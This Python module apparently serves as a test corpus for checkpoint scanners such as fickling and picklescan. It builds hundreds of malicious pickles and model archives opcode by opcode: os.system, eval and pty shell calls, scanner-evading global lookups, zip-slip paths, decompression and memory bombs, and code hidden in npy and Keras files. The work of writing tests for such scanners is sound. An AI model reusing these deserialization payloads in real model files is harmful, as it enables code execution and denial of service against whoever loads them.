"""Malicious checkpoints of the kinds that fickling, picklescan and modelscan test, written opcode by opcode.

Each would create the file `canary`, take all memory, or never end, if a reader followed it. ``corpus(folder, canary)``
writes them and returns their paths; nothing here runs one.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

PROTO = b"\x80\x04"


def text(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *args: str) -> bytes:
    """GLOBAL, a tuple of strings, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(text(a) for a in args) + b"tR"


def stack_call(module: str, name: str, *args: str) -> bytes:
    return text(module) + text(name) + b"\x93(" + b"".join(text(a) for a in args) + b"tR"


def pickles(canary: Path) -> dict[str, bytes]:
    touch, python = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    found = {
        "os_system": call("os", "system", touch), "posix_system": call("posix", "system", touch), "nt_system": call("nt", "system", touch),
        "eval": call("builtins", "eval", python), "exec": call("builtins", "exec", python), "py2_eval": call("__builtin__", "eval", python),
        "runpy": call("runpy", "_run_code", python), "subprocess": call("subprocess", "getoutput", touch), "pty": call("pty", "spawn", "sh"),
        "timeit": call("timeit", "timeit", python), "pdb": call("pdb", "run", python), "cprofile": call("cProfile", "run", python),
        "code": call("code", "InteractiveInterpreter", python), "bdb": call("bdb", "Bdb", python), "compile": call("builtins", "compile", python),
        "import": call("builtins", "__import__", "os"), "getattr": call("builtins", "getattr", "os", "system"), "open": call("builtins", "open", str(canary), "w"),
        "webbrowser": call("webbrowser", "open", "http://localhost/"), "urlopen": call("urllib.request", "urlopen", "http://localhost/"),
        "socket": call("socket", "create_connection", "localhost"), "pip": call("pip", "main", "install"), "ctypes": call("ctypes", "CDLL", "libc.so.6"),
        "torch_load": call("torch", "load", str(canary)), "torch_hub": call("torch.hub", "load", "x/y", "z"), "jit": call("torch.jit", "load", str(canary)),
        "inductor": call("torch._inductor.codecache", "compile_file", python), "utils_cpp": call("torch.utils.cpp_extension", "load_inline", "x"),
        "numpy_load": call("numpy", "load", str(canary)), "numpy_run": call("numpy.testing._private.utils", "runstring", python),
        "joblib": call("joblib", "load", str(canary)), "pickle_loads": call("pickle", "loads", "x"), "shutil": call("shutil", "rmtree", "/nonexistent"),
        "attrgetter": call("operator", "attrgetter", "system"), "partial": call("functools", "partial", python), "marshal": call("marshal", "loads", "x"),
        "asyncio": call("asyncio.unix_events", "_UnixSubprocessTransport._start", touch), "idlelib": call("idlelib.pyshell", "ModifiedInterpreter", python),
        "dunder": call("torch", "serialization.os.system", touch), "dotted": stack_call("transformers", "os.system", touch),
        "stack_global": stack_call("os", "system", touch), "stack_tuple": text("posix") + text("system") + b"\x93" + text(touch) + b"\x85R",
        "memo_global": text("os") + b"\x94" + text("system") + b"\x94" + b"h\x00h\x01\x93" + text(touch) + b"\x85R",
        "nested": call("builtins", "eval", python) + b"0" + call("os", "system", touch),
        "nested_reduce": b"cbuiltins\nmap\n(cos\nsystem\n(" + text(touch) + b"ltR",
        "inst": b"(" + text(touch) + b"ios\nsystem\n", "obj": b"(cos\nsystem\n" + text(touch) + b"o",
        "newobj": b"cos\nsystem\n" + text(touch) + b"\x85\x81", "newobj_ex": b"cos\nsystem\n" + text(touch) + b"\x85}\x92",
        "build_setstate": b"cos\nsystem\n)R}" + text("__setstate__") + b"cos\nsystem\nsb" + text(touch) + b"b",
        "build_on_name": b"cos\nsystem\n" + text(touch) + b"b", "call_of_result": call("builtins", "getattr", "os", "system") + text(touch) + b"\x85R",
        "extension": b"\x82\x01", "persistent": text("posix") + b"Q", "from_type": b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncos\nsystem\n" + text(touch) + b"\x85}tR",
        "ordered_dict_of_call": b"ccollections\nOrderedDict\n(cos\nsystem\n" + text(touch) + b"\x85RtR",
        "reconstructor": b"ccopy_reg\n_reconstructor\n(cos\nsystem\ncbuiltins\nobject\nNtR",
        "load_from_bytes": b"ctorch.storage\n_load_from_bytes\n(" + b"B" + struct.pack("<I", 0) + b"tR",
        "embedded": b"ctorch.storage\n_load_from_bytes\n(" + _bytes(PROTO + call("os", "system", touch) + b".") + b"tR",
        "bytearray_bomb": b"cbuiltins\nbytearray\n(I999999999999\ntR", "range": b"cbuiltins\nrange\n(I999999999999\ntR",
        "memo_bomb": b"]r\xff\xff\xff\xff", "memo_bomb_text": b"]p99999999999999999999\n", "length_bomb": b"\x8e" + b"\xff" * 7 + b"\x7f",
        "text_bomb": b"\x8d" + b"\xff" * 8, "negative": b"T\xff\xff\xff\xff", "long_bomb": b"\x8b\xff\xff\xff\x7f", "digits": b"I" + b"9" * 100_000 + b"\n",
        "frame_bomb": b"\x95" + b"\xff" * 8 + b"N", "deep_list": b"]" * 200_000 + b"a" * 199_999, "deep_tuple": b")" + b"\x85" * 200_000,
        "marks": b"(" * 200_000 + b"t" * 200_000, "self_list": b"]\x94h\x00a", "self_dict": b"}\x94" + text("x") + b"h\x00s",
        "laughs": _laughs(), "laughs_objects": _laughs(b"c__main__\nThing\n)R"), "unhashable": b"}]Ns}}Ns", "lone_mark": b"(", "empty": b"",
        "no_stop": b"}" * 100, "bad_opcode": b"\xfe", "bad_utf8": b"X\x02\x00\x00\x00\xff\xff", "pop_empty": b"0", "surrogates": b"X\x03\x00\x00\x00\xed\xa0\x80",
        "long_name": b"c" + b"a" * 100_000 + b"\nb\n)R", "escape": b"}" + text("\x1b[2J\x1b]0;gone\x07") + b"K\x01s", "next_buffer": b"\x97",
    }  # fmt: skip
    return {k: PROTO + v + (b"" if k == "no_stop" else b".") for k, v in found.items()} | {
        "protocol_0": call("os", "system", touch)[:-2] + b"tR."
    }


def _bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def _laughs(leaf: bytes = b"]") -> bytes:
    """Thirty lists, each holding the one before ten times: a small file with 10^30 leaves."""
    body = leaf + b"\x94"
    for i in range(30):
        body += b"](" + b"".join(b"h" + bytes([i]) for _ in range(10)) + b"e\x94"
    return body


def torch_zip(data: bytes, *, members: dict[str, bytes] | None = None, compress: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/version", "3\n")
        for name, content in (members or {}).items():
            z.writestr(name, content)
    return out.getvalue()


def tensor_pickle(shape: tuple[int, ...], strides: tuple[int, ...], count: int, offset: int = 0) -> bytes:
    """A torch pickle of one float tensor over storage 0, with any numbers one likes."""
    numbers = b"".join(b"I%d\n" % n for n in shape)
    steps = b"".join(b"I%d\n" % n for n in strides)
    pid = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"I%d\ntQ" % count
    view = (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + pid
        + b"I%d\n(" % offset
        + numbers
        + b"t("
        + steps
        + b"t\x89ccollections\nOrderedDict\n)RtR"
    )
    return PROTO + b"}" + text("w") + view + b"s."


def _npy(header: str, data: bytes = b"") -> bytes:
    raw = header.encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + data


def _npz(member: bytes, *, name: str = "w.npy", compress: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as z:
        z.writestr(name, member)
    return out.getvalue()


def _safetensors(header: bytes, data: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def others(canary: Path) -> dict[str, bytes]:
    """Files that are no bare pickles: bombs of lengths and sizes, names that lead out, code in archives."""
    system = PROTO + call("os", "system", f"touch {canary}") + b"."
    huge, small = 1 << 60, struct.pack("<f", 1.0)
    objects = pickle.dumps({"x": 1})
    good = tensor_pickle((1,), (1,), 1)
    slip = {"../../slip": b"x", "/etc/slip": b"x", "archive/data/0": small}
    jit = {
        "archive/code/__torch__.py": b"import os\nos.system('x')\n",
        "archive/constants.pkl": system,
        "archive/data/0": small,
    }
    twice = bytearray(torch_zip(good, members={"archive/data/0": small}))
    end = twice.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", twice, end + 8, 65535, 65535)
    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    many = {f"t{i}": {"dtype": "F32", "shape": [1 << 18], "data_offsets": [0, 1 << 20]} for i in range(2000)}
    return {
        "zip_system.pt": torch_zip(system), "zip_slip.pt": torch_zip(good, members=slip), "jit.pt": torch_zip(good, members=jit),
        "bomb_pickle.pt": torch_zip(PROTO + b"]" + b"N0" * 40_000_000 + b".", compress=True),
        "bomb_storage.pt": torch_zip(good, members={"archive/data/0": bytes(50_000_000)}, compress=True),
        "huge_shape.pt": torch_zip(tensor_pickle((huge, huge), (1, 1), huge), members={"archive/data/0": small}),
        "expanded.pt": torch_zip(tensor_pickle((1 << 40,), (0,), 1), members={"archive/data/0": small}),
        "expanded_many.pt": torch_zip(tensor_pickle((1 << 11, 1 << 11), (0, 0), 1), members={"archive/data/0": small}),
        "offset.pt": torch_zip(tensor_pickle((1,), (1,), 1, offset=huge), members={"archive/data/0": small}),
        "negative_stride.pt": torch_zip(tensor_pickle((4,), (-1,), 4), members={"archive/data/0": small * 4}),
        "zip_counts.pt": bytes(twice), "no_directory.pt": torch_zip(good, members={"archive/data/0": small})[:-60], "zip_only_magic.pt": b"PK\x03\x04" + bytes(100),
        "objects.npz": _npz(_npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", system)), "object.npy": _npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n", objects),
        "code_header.npz": _npz(_npy(f"__import__('os').system('touch {canary}')\n")), "deep_header.npz": _npz(_npy("(" * 50_000)),
        "huge.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,), }\n", small)),
        "bomb.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (16,), }\n", bytes(100_000_000)), compress=True),
        "record.npz": _npz(_npy("{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }\n", small)), "slip.npz": _npz(_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }\n", small), name="../../slip.npy"),
        "length.safetensors": _safetensors(b"{}", length=1 << 63), "deep.safetensors": _safetensors(b"[" * 100_000), "digits.safetensors": _safetensors(b'{"a": ' + b"9" * 100_000 + b"}"),
        "overlap.safetensors": _safetensors(json.dumps(many).encode(), bytes(1 << 20)), "beyond.safetensors": _safetensors(json.dumps({"a": entry | {"data_offsets": [1 << 60, (1 << 60) + 4]}}).encode(), small),
        "negative.safetensors": _safetensors(json.dumps({"a": entry | {"shape": [-1], "data_offsets": [4, 0]}}).encode(), small), "types.safetensors": _safetensors(json.dumps({"a": 1, "b": None, "c": [], "d": entry | {"dtype": {}}}).encode(), small),
        "twice.safetensors": _safetensors(b'{"a":' + json.dumps(entry).encode() + b',"a":' + json.dumps(entry).encode() + b"}", small), "not_utf8.safetensors": _safetensors(b"\xff\xfe{}"),
        "joblib.pkl": b"\x80\x04\x95" + struct.pack("<Q", 40) + b"\x8c\x13joblib.numpy_pickle\x94\x8c\x11NumpyArrayWrapper\x94\x93\x94)\x81.", "zlib.pt": zlib.compress(system), "gzip.pt": b"\x1f\x8b" + bytes(50),
        "keras_lambda.keras": _keras(system), "tar.pt": bytes(257) + b"ustar" + bytes(250),
    }  # fmt: skip


def _keras(code: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("config.json", json.dumps({"class_name": "Lambda", "config": {"function": code.hex()}}))
        z.writestr("../../../slip", b"x")
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(100))
    return out.getvalue()


def corpus(folder: Path, canary: Path) -> list[Path]:
    """Every bare pickle three times (bare, in torch's zip, in torch's older stream), and the other files once."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    files = {f"{k}.pkl": v for k, v in pickles(canary).items()}
    files |= {f"{k}.zip.pt": torch_zip(v) for k, v in pickles(canary).items()}
    files |= {f"{k}.old.pt": magic + v + pickle.dumps(["0"], 2) for k, v in pickles(canary).items()}
    files |= others(canary)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return [folder / name for name in files]
